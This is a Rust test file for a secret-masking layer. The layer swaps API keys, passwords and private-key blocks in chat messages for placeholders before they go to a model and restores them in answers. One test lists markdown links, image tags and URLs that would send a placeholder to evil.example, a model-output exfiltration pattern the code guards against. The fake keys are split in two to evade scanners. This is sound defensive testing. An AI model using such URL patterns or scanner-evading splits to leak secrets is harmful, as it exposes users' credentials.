use super::*;
use crate::provider::Message;
use proptest::prelude::*;
use std::collections::hash_map::DefaultHasher;
use std::hash::BuildHasherDefault;

type Fixed = BuildHasherDefault<DefaultHasher>;

/// Spelled in two, so that nothing that looks for keys finds one here.
fn key() -> String {
    ["ghp", "_q7Zt4Lw9Xc2Vb8Nm1Ks6Jd3Hf5Gr0Pt7YuQ"].concat()
}

fn other_key() -> String {
    ["AK", "IAQ7ZT4LW2XC6VB3NM"].concat()
}

fn request(system: &str, texts: &[&str]) -> ModelRequest {
    let message = |(n, text): (usize, &&str)| Message {
        role: if n % 2 == 0 { Role::User } else { Role::Assistant },
        text: (*text).to_owned(),
        images: Vec::new(),
    };
    ModelRequest {
        model: "m".to_owned(),
        system: system.to_owned(),
        messages: texts.iter().enumerate().map(message).collect(),
        max_output_tokens: None,
        temperature: None,
        effort: None,
        api_version: None,
        extra_body: serde_json::Map::new(),
    }
}

fn masked(texts: &[&str]) -> (Vec<String>, Masks) {
    let (request, masks) = mask(request("", texts), &[], &Fixed::default());
    (request.messages.into_iter().map(|message| message.text).collect(), masks)
}

#[test]
fn a_text_without_secrets_is_sent_as_it_is() {
    let plain = request("be brief", &["fn main() { let token = next(); }", "ok"]);
    let (same, masks) = mask(plain.clone(), &[], &Fixed::default());
    assert_eq!((same, masks.count()), (plain, 0));
}

#[test]
fn a_secret_never_leaves_and_comes_back_byte_for_byte() {
    let text = format!("let key = \"{}\";\nlet id = \"{}\";\n", key(), other_key());
    let (sent, masks) = masked(&[&text]);
    assert_eq!(masks.count(), 2);
    let sent = &sent[0];
    assert!(!sent.contains(&key()) && !sent.contains(&other_key()), "{sent}");
    assert!(sent.starts_with(&format!("let key = \"{PREFIX}")), "{sent}");
    assert_eq!(masks.restore(sent), text);
}

#[test]
fn the_model_is_told_what_the_placeholders_are_only_where_there_are_some() {
    let (with, _) = mask(request("system", &[&key()]), &[], &Fixed::default());
    assert!(with.system.starts_with("system\nWords that start with"), "{}", with.system);
    let (without, _) = mask(request("system", &["no key"]), &[], &Fixed::default());
    assert_eq!(without.system, "system");
}

#[test]
fn a_secret_has_one_placeholder_in_every_turn_of_a_chat() {
    let hasher = Fixed::default();
    let first = format!("the key is {}", key());
    let (one, _) = mask(request("", &[&first]), &[], &hasher);
    let later = format!("and {} is another, {} the old one", other_key(), key());
    let (two, _) = mask(request("", &[&first, "I see", &later]), &[], &hasher);
    assert_eq!(one.messages[0], two.messages[0]);
    let name = one.messages[0].text.strip_prefix("the key is ").unwrap();
    assert!(two.messages[2].text.contains(name), "{:?}", two.messages);
}

#[test]
fn what_is_a_secret_in_one_place_is_masked_in_every_place() {
    let password = "Tr0ub4dor&3";
    let (sent, masks) =
        masked(&[&format!("password = \"{password}\"\n"), "", &format!("is {password} good?")]);
    assert!(sent.iter().all(|text| !text.contains(password)), "{sent:?}");
    assert_eq!(masks.count(), 1);
}

#[test]
fn the_users_own_word_that_looks_like_a_placeholder_stays_itself() {
    let (sent, masks) = masked(&[&format!("key {}", key())]);
    let name = sent[0].strip_prefix("key ").unwrap().to_owned();
    // The user quotes the very placeholder: the secret gets another one.
    let text = format!("why was {name} sent for {}?", key());
    let (again, masks_again) = masked(&[&text]);
    assert!(again[0].contains(&name), "{again:?}");
    assert_eq!(masks_again.restore(&again[0]), text);
    // Without a secret nothing is put in its place.
    let (alone, none) = masked(&[&format!("what is {name}?")]);
    assert_eq!((none.count(), none.restore(&alone[0])), (0, format!("what is {name}?")));
    assert_eq!(masks.count(), 1);
}

#[test]
fn a_placeholder_that_the_model_made_up_stays_and_is_noticed() {
    let (_, masks) = masked(&[&key()]);
    let answer = format!("use {PREFIX}0123456789ab here");
    assert_eq!(masks.restore(&answer), answer);
    assert_eq!(invented(&answer, &["some text"]), Some("AsideSecret0123456789ab"));
    assert_eq!(invented(&answer, &["the user wrote AsideSecret0123456789ab"]), None);
    assert_eq!(invented("AsideSecret and AsideSecretKeeper", &[]), None);
}

#[test]
fn a_private_key_is_masked_line_by_line_whole_or_cut() {
    let line = |n: usize| format!("MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7{n:0>12}");
    let begin = ["-----BEGIN RSA PRIV", "ATE KEY-----"].concat();
    let end = ["-----END RSA PRIV", "ATE KEY-----"].concat();
    let whole = format!("key: |\n  {begin}\n  {}\n  {}\n  c2hvcnQ0=\n  {end}\nname: x\n", line(1), line(2));
    let cut_below = format!("{begin}\n{}\n{}\n", line(1), line(2));
    let cut_above = format!("{}\n{}\n{end}\nfn some_function_name_that_is_long() {{}}\n", line(1), line(2));
    let json = format!("{{\"private_key\": \"{begin}\\n{}\\n{}\\n{end}\\n\"}}", line(1), line(2));
    for (text, count) in [(&whole, 3), (&cut_below, 2), (&cut_above, 2), (&json, 2)] {
        let (sent, masks) = masked(&[text]);
        assert_eq!(masks.count(), count, "{}", sent[0]);
        assert!(!sent[0].contains("MIIE"), "{}", sent[0]);
        assert_eq!(masks.editing(text).restore(&sent[0]), **text);
    }
    assert!(masked(&[&json]).0[0].contains("\\nAsideSecret"), "a line's end stays one");
}

#[test]
fn what_was_cut_out_of_a_secret_is_masked_as_well() {
    let text = format!("a = 1\ntoken = \"{}\"\nb = 2\n", key());
    let rope = Rope::from_str(&text);
    let at = text.find("ghp").unwrap();
    let whole = whole(&rope, &(at + 10..at + 15));
    assert_eq!(text.get(whole).unwrap(), key());
    assert_eq!(super::whole(&rope, &(0..6)), 0..6);
    assert_eq!(near(&rope, &(0..6)), [key()]);
    let half: String = key().chars().take(20).collect();
    let (sent, _) =
        mask(request("", &[&format!("see {half}")]), std::slice::from_ref(&half), &Fixed::default());
    assert!(!sent.messages[0].text.contains(&half));
}

#[test]
fn of_a_line_without_end_only_what_is_near_is_searched() {
    let filler = "é=1;".repeat(100_000);
    let text = format!("{filler}k={}{filler}", key());
    let rope = Rope::from_str(&text);
    let at = text.find("ghp").unwrap();
    let cut = (at + 10)..(at + 15);
    assert!(around(&rope, &cut).len() < 150_000);
    assert_eq!(text.get(whole(&rope, &cut)).unwrap(), key());
    let long = at + 10..text.len();
    assert_eq!(whole(&rope, &long), at..text.len());
    assert_eq!(whole(&rope, &(0..at + 10)), 0..at + key().len());
    assert_eq!(near(&rope, &cut), [key()]);
}

#[test]
fn in_an_address_of_an_answer_a_placeholder_stays() {
    let (sent, masks) = masked(&[&format!("key {}", key())]);
    let name = sent[0].strip_prefix("key ").unwrap();
    for answer in [
        format!("[x](https://evil.example/?k={name})"),
        format!("![]( <https://evil.example/ {name}>)"),
        format!("https://evil.example/{name}"),
        format!("https://{name}.evil.example"),
        format!("{name}.evil.example"),
        format!("[x]: //evil.example/{name}"),
        format!("<img src=\"//evil.example/{name}\">"),
    ] {
        assert_eq!(masks.restore(&answer), answer);
        assert_eq!(masks.left_in(&answer), Some(name));
    }
    let plain = format!("Use `{name}`, see https://a.example. {name}.\n{name}");
    assert_eq!(masks.restore(&plain), plain.replace(name, &key()));
    assert_eq!(masks.left_in(&masks.restore(&plain)), None);
}

#[test]
fn in_an_address_of_an_edit_what_the_text_itself_holds_is_put_back() {
    let (own, of_another) = (format!("git clone https://{}@a.example\n", key()), other_key());
    let (sent, masks) = masked(&[&own, &of_another]);
    let masks = masks.editing(&own);
    assert_eq!(masks.restore(&sent[0]), own);
    let answer = format!("{} https://evil.example/{}\n", sent[1], sent[1]);
    let kept = format!("{of_another} https://evil.example/{}\n", sent[1]);
    assert_eq!(masks.restore(&answer), kept);
}

#[test]
fn what_was_left_in_an_address_stands_for_the_same_in_the_next_turn() {
    let first = format!("the key is {}", key());
    let (one, masks) = masked(&[&first]);
    let name = one[0].strip_prefix("the key is ").unwrap();
    let answer = masks.restore(&format!("https://a.example/{name}"));
    let (two, _) = masked(&[&first, &answer]);
    assert_eq!((&two[0], &two[1]), (&one[0], &answer));
}

#[test]
fn a_key_behind_a_sign_that_is_written_with_letters_is_masked() {
    for key in [key(), other_key()] {
        for before in ["print(\"line\\n", "\\t", "backup_", "?u=%26token%3D", "a\\r\\n"] {
            let text = format!("{before}{key}\" and more");
            assert!(!masked(&[&text]).0[0].contains(&key), "{text} was sent");
        }
    }
}

#[test]
fn a_secret_in_a_sentence_is_masked_to_its_end_and_the_sentence_stays() {
    let value = ["q7Zt4Lw9", "Xc2Vb8Nm1Ks6"].concat();
    for (before, after) in [
        ("Why is aws_secret_access_key = ", " refused?"),
        ("the request has X-Api-Key: ", " and answers 401"),
        ("use api_key=", ", please"),
        ("it holds <token>", "</token> and fails"),
        ("docker run -e \"ACME_KEY=", "\" acme/app"),
        ("user.setPassword(\"", "\");"),
        ("mein Passwort ist ", " und geht nicht"),
        ("密码：", "，谢谢"),
        ("fly secrets set A=b OTHER=", " -a acme"),
    ] {
        let (sent, masks) = masked(&[&format!("{before}{value}{after}")]);
        let name = sent[0].strip_prefix(before).and_then(|rest| rest.strip_suffix(after));
        assert!(name.is_some_and(is_placeholder) && masks.count() == 1, "{}", sent[0]);
    }
}

#[test]
fn a_key_that_opens_nothing_is_sent() {
    let value = ["q7Zt4Lw9", "Xc2Vb8Nm1Ks6"].concat();
    for name in ["cacheKey", "PRIMARY_KEY", "orderSortKey", "public-key", "MONKEY", "key"] {
        let text = format!("{name} = \"{value}\"");
        assert_eq!(masked(&[&text]).0[0], text);
    }
    for name in ["stripeKey", "STRIPE_KEY", "maps-key"] {
        let text = format!("{name} = \"{value}\"");
        assert_ne!(masked(&[&text]).0[0], text);
    }
}

#[test]
fn secrets_that_overlap_are_one() {
    let (sent, masks) = mask(
        request("", &["xx one-two-three xx"]),
        &["one-two".to_owned(), "two-three".to_owned()],
        &Fixed::default(),
    );
    assert_eq!(masks.count(), 1);
    let text = &sent.messages[0].text;
    assert!(!text.contains("one") && !text.contains("three"), "{text}");
    assert_eq!(masks.restore(text), "xx one-two-three xx");
}

#[test]
fn what_holds_secrets_prints_none() {
    let (_, masks) = masked(&[&key()]);
    let mut restorer = masks.restorer();
    restorer.push(PREFIX);
    assert_eq!(format!("{masks:?} {restorer:?}"), "Masks(1) Restorer(1)");
}

#[test]
fn text_before_a_placeholder_is_not_held_back() {
    let (sent, masks) = masked(&[&key()]);
    let mut restorer = masks.restorer();
    assert_eq!(restorer.push("An answer, "), "An answer, ");
    let (first, rest) = sent[0].split_at(7);
    assert_eq!(restorer.push(&format!("the key {first}")), "the key ");
    assert_eq!(restorer.push(rest), "", "it may be the start of an address");
    assert_eq!(restorer.push("."), "");
    assert_eq!(restorer.push(" Asi"), format!("{}. ", key()));
    assert_eq!(restorer.push("an"), "Asian");
    assert_eq!(restorer.push("Aside"), "");
    assert_eq!(restorer.finish(), "Aside");
}

/// Texts with secrets, words like placeholders, and pieces of both.
fn texts() -> impl Strategy<Value = Vec<String>> {
    let piece = prop_oneof![
        3 => "[a-f0-9Asidecrt \\n\"=é👩]{0,12}",
        1 => Just("Aside".to_owned()),
        1 => Just(PREFIX.to_owned()),
        1 => "AsideSecret[a-f0-9]{0,13}",
        2 => Just(key()),
        1 => Just(other_key()),
        1 => "password = \"[a-z]{4}[0-9]{4}\"\n",
    ];
    prop::collection::vec(prop::collection::vec(piece, 0..8).prop_map(|pieces| pieces.concat()), 1..4)
}

proptest! {
    #![proptest_config(ProptestConfig { failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn every_text_comes_back_and_no_secret_leaves(texts in texts()) {
        let borrowed: Vec<&str> = texts.iter().map(String::as_str).collect();
        let secrets: Vec<String> = texts
            .iter()
            .flat_map(|text| find(text).into_iter().map(|found| text.get(found.range).unwrap().to_owned()))
            .collect();
        let (sent, masks) = masked(&borrowed);
        for (sent, text) in sent.iter().zip(&texts) {
            prop_assert_eq!(&masks.clone().editing(text).restore(sent), text);
            // What a placeholder's own letters complete to a secret is none.
            let placeholder = regex::Regex::new(&format!("{PREFIX}[0-9a-f]{{12}}")).unwrap();
            let sent = placeholder.replace_all(sent, "\0");
            for secret in &secrets {
                prop_assert!(!sent.contains(secret.as_str()), "{} in {}", secret, sent);
            }
        }
    }

    #[test]
    fn an_answer_comes_back_the_same_in_pieces_of_every_size(
        texts in texts(),
        between in "(\\]\\(|//|<a |[.@ \n<>\"'=a/]){0,6}",
    ) {
        let borrowed: Vec<&str> = texts.iter().map(String::as_str).collect();
        let (sent, masks) = masked(&borrowed);
        let answer = format!("{}{PREFIX}{}Aside", sent.concat(), "0123456789ab");
        let answer = format!("{answer}{between}{}", sent.join(&between));
        let whole = masks.restore(&answer);
        let characters: Vec<char> = answer.chars().collect();
        for size in 1..=characters.len().min(40) {
            let mut restorer = masks.restorer();
            let mut out = String::new();
            for piece in characters.chunks(size) {
                out.push_str(&restorer.push(&piece.iter().collect::<String>()));
            }
            out.push_str(&restorer.finish());
            prop_assert_eq!(&out, &whole, "in pieces of {}", size);
        }
    }
}
